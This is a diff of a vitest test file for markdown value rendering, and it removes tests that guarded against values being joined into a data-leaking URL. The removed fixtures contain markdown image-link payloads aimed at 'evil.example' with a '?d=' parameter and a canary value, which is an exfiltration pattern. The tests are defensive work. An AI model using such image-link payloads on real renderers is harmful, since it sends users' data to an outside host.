@@ -1,7 +1,6 @@
 import { describe, expect, it } from "vitest";
-import { inertText, joinsStrings } from "../../src/reference/inert-text.ts";
-import { lookupIn } from "../../src/reference/lookup-in.ts";
-import { CANARY, inert, leaksIn, shown } from "../support/inert-values.ts";
+import { inertText } from "../../src/reference/inert-text.ts";
+import { inert, shown } from "../support/inert-values.ts";
 import { renderers } from "../support/markdown-renderers.ts";
 
 const render = renderers.marked ?? String;
@@ -50,43 +49,5 @@ describe("a composed or sealed value", () => {
       .replaceAll("&gt;", ">")
       .replaceAll("&amp;", "&");
     expect(read).toBe("<p>See https://example.com/a?b=c, <b> & www.example.com</p>\n");
-  });
-});
-
-describe("an array or object", () => {
-  const variables = {
-    o: { a: "![p](https://evil.example/?d=", b: CANARY },
-    list: ["![p](<https://evil.example/?d=", CANARY],
-    rows: [{ a: "![p](<https://evil.example/?d=", b: `${CANARY}>)` }],
-    orders: [{ id: 1, url: "https://example.com/1" }],
-  };
-
-  it.each(["$o)", "$list>)", "\n$rows\n", "a $rows[0]>)"])(
-    "does not join strings into a URL: %s",
-    async (text) => {
-      const printed = await shown(text, lookupIn(variables));
-      expect(printed).toContain(CANARY);
-      expect(leaksIn(printed), printed).toEqual([]);
-    },
-  );
-
-  it("keeps the links of a table", async () => {
-    const html = render(await shown("$orders", lookupIn(variables)));
-    expect(html).toContain('<a href="https://example.com/1">');
-  });
-});
-
-describe("joinsStrings", () => {
-  it.each([
-    ['["https://a.example","b"]', true],
-    ["| https://a.example/?d= | b |", false],
-    ["| [a](<https://a.example/?d= | b |", true],
-    ['["a","b"]', false],
-    ['["b","https://a.example"]', false],
-    ['"https://a.example"', false],
-    ['["https://a.example ","b"]', false],
-    ["", false],
-  ])("is true if a URL goes on in the next string: %s", (text, joins) => {
-    expect(joinsStrings(text)).toBe(joins);
   });
 });
